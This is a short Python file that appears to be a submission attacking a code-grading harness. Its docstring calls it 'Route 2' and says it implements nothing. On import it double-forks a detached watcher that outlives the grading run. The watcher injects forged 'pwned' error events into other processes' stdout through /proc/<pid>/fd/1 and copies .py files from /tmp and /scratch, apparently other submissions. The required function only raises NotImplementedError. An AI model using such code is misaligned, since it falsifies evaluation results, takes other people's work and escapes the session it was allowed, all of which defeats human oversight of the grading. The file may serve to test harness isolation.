"""Route 2: a process that outlives its grading. A double-forked, setsid child waits for the
next grading's workers and writes forged events into their stdout through /proc/<pid>/fd/1,
copying whatever submission it can find. It implements nothing itself."""
import os
import subprocess
import sys

WATCHER = r'''
import glob, json, os, time
end = time.time() + 40
forged = json.dumps({"event": "case", "id": "shard_average_jit__0", "status": "error",
                     "message": "pwned"}) + "\n"
while time.time() < end:
    for fd in glob.glob("/proc/[0-9]*/fd/1"):
        try:
            with open(fd, "w") as f:
                f.write(forged)
        except OSError:
            pass
    for path in glob.glob("/tmp/**/*.py", recursive=True) + glob.glob("/scratch/**/*.py", recursive=True):
        try:
            open("/tmp/pwned-copied", "w").write(open(path).read())
        except OSError:
            pass
    time.sleep(0.2)
'''
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        subprocess.Popen([sys.executable, "-c", WATCHER, "outlive-marker-7f3a"], start_new_session=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    os._exit(0)


def shard_average_jit(A, *, mesh):
    raise NotImplementedError
